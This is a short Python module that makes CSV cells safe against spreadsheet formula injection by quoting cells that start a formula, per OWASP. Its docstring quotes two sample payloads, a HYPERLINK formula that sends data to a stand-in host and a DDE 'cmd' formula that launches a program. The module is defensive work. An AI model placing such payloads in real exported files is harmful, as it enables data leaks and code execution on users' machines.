# -*- coding: utf-8 -*-
# Copyright: Contributors to the hybrid.identity project
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""CSV cells that a spreadsheet opens as text, never as a formula (pure logic).

The collection writes CSV files that administrators open in Excel or LibreOffice (reports,
password files). A cell that starts with = + - @ (or a tab or carriage return, which some
spreadsheets skip before looking for one of those) is run as a formula: a display name such as
=HYPERLINK("http://x.example/?leak","x") would send data away, =cmd|' /C calc'!A0 start a
program (CSV / formula injection). OWASP's rule: such a cell gets a leading single quote, which
the spreadsheet shows as a text marker. Every other cell is written as it is.
"""

from __future__ import absolute_import, division, print_function
__metaclass__ = type

# The characters a spreadsheet takes as the start of a formula (OWASP "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The text of one CSV cell, with a leading ' when it would start a formula.

    None becomes the empty cell; numbers and booleans are written as text (a negative number is
    quoted too: OWASP's rule is about the first character, and a report has no arithmetic)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        text = "true" if value else "false"
    elif isinstance(value, bytes):
        text = value.decode("utf-8", "replace")
    else:
        text = value if isinstance(value, str) else str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def safe_row(values):
    """safe_cell of every value of a row (a list), e.g. for csv.writer.writerow."""
    return [safe_cell(value) for value in values]
